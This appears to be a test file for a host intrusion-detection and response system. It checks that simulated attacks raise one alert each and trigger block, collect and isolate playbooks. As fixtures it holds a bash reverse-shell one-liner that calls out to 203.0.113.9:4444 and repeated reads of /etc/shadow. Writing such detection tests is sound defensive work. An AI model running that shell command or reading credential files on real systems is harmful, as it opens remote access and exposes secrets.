"""Attacks as event streams through the real bus: one alert each, and the
playbooks' commands recorded in storage."""

from __future__ import annotations

import time
from typing import Any

from response_kit import SimulatedAgent, event, make_hive, until

from immune.plugins.exploit import ExploitPlugin
from immune.plugins.playbook import PlaybookPlugin
from immune.plugins.response import ResponsePlugin
from immune.plugins.rules import RulesPlugin

SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"


async def start(db_url: str) -> tuple[Any, SimulatedAgent, list[Any]]:
    hive = make_hive(
        db_url,
        [
            ("rules", RulesPlugin()),
            ("exploit", ExploitPlugin()),
            ("playbook", PlaybookPlugin()),
            ("response", ResponsePlugin()),
        ],
        rules={"poll_interval": 0},
        playbook={"dry_run": False},
        response={"tick_s": 0.05},
    )
    await hive.start()
    notes: list[Any] = []
    hive.bus.subscribe("notify.*", notes.append)
    return hive, SimulatedAgent(hive), notes


def commands_of(hive: Any, playbook: str) -> list[dict[str, Any]]:
    return [c for r in hive.store.runs(playbook=playbook) for c in r["commands"]]


async def test_scenario_reverse_shell_respawning(db_url: str) -> None:
    hive, agent, notes = await start(db_url)
    try:
        began = time.monotonic()
        stream = [event(exe="/tmp/.x/dropper", argv=["/tmp/.x/dropper"], pid=100)]
        for pid in range(101, 111):  # the dropper respawns the shell ten times
            stream.append(
                event(exe="/usr/bin/bash", argv=["bash", "-c", SHELL], pid=pid)
            )
            stream.append(event(kind="connect", addr="203.0.113.9", port=4444, pid=pid))
        await hive.ingest(stream)
        await hive.bus.join()

        # One alert per rule, counting every event behind it.
        await hive.store.flush()
        alerts = {a["rule"]: a for a in hive.store.alerts()}
        assert sorted(alerts) == [
            "connect-to-blocked-port",
            "exec-from-temp-dir",
            "reverse-shell-cmdline",
        ]
        assert len(hive.store.alerts()) == 3
        shell = alerts["reverse-shell-cmdline"]
        assert shell["count"] == 10 and len(shell["event_ids"]) == 10
        assert shell["severity"] == "critical"
        assert shell["data"]["addr"] == "203.0.113.9"
        assert alerts["connect-to-blocked-port"]["count"] == 10

        # The reverse-shell playbook ran once: block the remote end, tell,
        # snapshot; the critical one tells at once and isolates 5 s later.
        await until(lambda: ("web-1", "isolate") in agent.actions(), timeout=15)
        assert time.monotonic() - began >= 5
        assert agent.actions() == [
            ("web-1", "block"),
            ("web-1", "collect"),
            ("web-1", "isolate"),
        ]
        assert agent.received[0]["args"]["addr"] == "203.0.113.9"
        assert sorted(n["playbook"] for n in notes) == [
            "critical-isolate",
            "reverse-shell-contain",
        ]
        await until(
            lambda: (
                [c["state"] for c in commands_of(hive, "critical-isolate")]
                == ["succeeded"]
            )
        )
        recorded = commands_of(hive, "reverse-shell-contain")
        assert [(c["action"], c["state"]) for c in recorded] == [
            ("block", "succeeded"),
            ("collect", "succeeded"),
        ]
        assert {c["alert_id"] for c in recorded} == {shell["id"]}
        assert len(hive.store.runs(playbook="reverse-shell-contain")) == 1
    finally:
        await hive.stop()
        hive.store.close()


async def test_scenario_credential_file_reads(sqlite_url: str) -> None:
    hive, agent, notes = await start(sqlite_url)
    try:
        reads = [event(kind="open", path="/etc/shadow", pid=300) for _ in range(5)]
        await hive.ingest(reads)
        await hive.bus.join()
        await until(lambda: hive.store.runs(playbook="credential-access-alert"))
        await hive.store.flush()
        (stored,) = hive.store.alerts()
        assert (stored["rule"], stored["count"]) == ("credential-file-read", 5)
        assert [n["playbook"] for n in notes] == ["credential-access-alert"]
        (run,) = hive.store.runs()
        assert [s["action"] for s in run["steps"]] == ["alert"]
        assert agent.received == []
    finally:
        await hive.stop()
        hive.store.close()
